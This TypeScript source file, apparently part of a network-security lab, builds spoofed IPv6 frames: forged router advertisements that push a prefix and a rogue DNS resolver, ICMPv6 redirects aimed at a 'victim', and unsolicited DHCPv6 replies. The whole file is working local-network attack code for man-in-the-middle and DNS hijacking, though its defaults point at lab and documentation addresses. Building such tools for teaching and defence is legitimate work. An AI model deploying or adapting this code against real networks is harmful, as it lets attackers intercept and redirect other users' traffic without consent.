/** What makes a machine that speaks IPv6 take a neighbour for its router or its resolver (6, 7). */
import { buildEthernet, ETHER_TYPES, IP_PROTOCOLS, macBytes, transportChecksum } from '../frame/index.ts';
import { LAB } from './addresses.ts';

/** The neighbour: his card and his link-local address, 16 bytes as hexadecimal digits. */
export interface Router6 {
  readonly mac: string;
  readonly address: string;
}

const THE_LAB: Router6 = { mac: LAB.routerMac, address: 'fe8000000000000050544cfffe000001' };
const ALL_NODES: Router6 = { mac: '33:33:00:00:00:01', address: 'ff020000000000000000000000000001' };
const PREFIX = '20010db8006600000000000000000000';
/** 2001:db8::80, the lab's site with IPv6. */
const SITE = '20010db8000000000000000000000080';
const DHCPV6 = { client: 546, server: 547 };

/**
 * A router advertisement with a prefix to autoconfigure, a resolver, and the wish that everybody ask DHCPv6 for more:
 * RFC 4861 section 4.2, RFC 8106.
 */
export function routerAdvertisement(router: Router6 = THE_LAB): Buffer {
  const options = [
    sourceLinkLayer(router),
    // Prefix information: /64, on-link and autonomous, valid for a day.
    Buffer.from(`030440c00001518000015180${'00'.repeat(4)}${PREFIX}`, 'hex'),
    // Recursive DNS server, for a day.
    Buffer.from(`1903000000015180${PREFIX.slice(0, -1)}1`, 'hex'),
  ];
  // Hop limit 64, managed and other configuration, router for half an hour.
  const body = Buffer.concat([Buffer.from('8600000040c007080000000000000000', 'hex'), ...options]);
  return icmpv6Frame(router, ALL_NODES, body);
}

/** "The site is best reached by me": RFC 4861 section 4.5. */
export function neighbourRedirect(victim: Router6 = ALL_NODES, router: Router6 = THE_LAB): Buffer {
  const addresses = Buffer.from(`${router.address}${SITE}`, 'hex');
  const body = Buffer.concat([Buffer.from('8900000000000000', 'hex'), addresses, sourceLinkLayer(router)]);
  return icmpv6Frame(router, victim, body);
}

/** An answer nobody asked for, with a resolver in it: RFC 8415 section 16.10, RFC 3646. */
export function dhcpv6Reply(router: Router6 = THE_LAB): Buffer {
  const resolver = Buffer.from(`00170010${PREFIX.slice(0, -1)}1`, 'hex');
  const message = Buffer.concat([Buffer.from([7, 0, 0, 1]), resolver]);
  const datagram = Buffer.concat([Buffer.alloc(8), message]);
  datagram.writeUInt16BE(DHCPV6.server, 0);
  datagram.writeUInt16BE(DHCPV6.client, 2);
  datagram.writeUInt16BE(datagram.length, 4);
  return ipv6Frame(router, ALL_NODES, IP_PROTOCOLS.udp, checked(router, ALL_NODES, IP_PROTOCOLS.udp, datagram, 6));
}

function sourceLinkLayer({ mac }: Router6): Buffer {
  return Buffer.concat([Buffer.from([1, 1]), macBytes(mac)]);
}

function icmpv6Frame(from: Router6, to: Router6, body: Buffer): Buffer {
  return ipv6Frame(from, to, IP_PROTOCOLS.icmpv6, checked(from, to, IP_PROTOCOLS.icmpv6, body, 2));
}

/** The IPv6 pseudo-header (RFC 8200 section 8.1) sums up to the same as IPv4's with longer addresses. */
function checked(from: Router6, to: Router6, protocol: number, body: Buffer, at: number): Buffer {
  const [source, destination] = [Buffer.from(from.address, 'hex'), Buffer.from(to.address, 'hex')];
  body.writeUInt16BE(transportChecksum(source, destination, protocol, body), at);
  return body;
}

/** Hop limit 255: what has it comes from the very link, so neighbours believe it. */
function ipv6Frame(from: Router6, to: Router6, protocol: number, body: Buffer): Buffer {
  const header = Buffer.from([0x60, 0, 0, 0, body.length >> 8, body.length & 0xff, protocol, 255]);
  const addresses = Buffer.from(from.address + to.address, 'hex');
  return buildEthernet({
    destination: to.mac,
    source: from.mac,
    etherType: ETHER_TYPES.ipv6,
    payload: Buffer.concat([header, addresses, body]),
  });
}
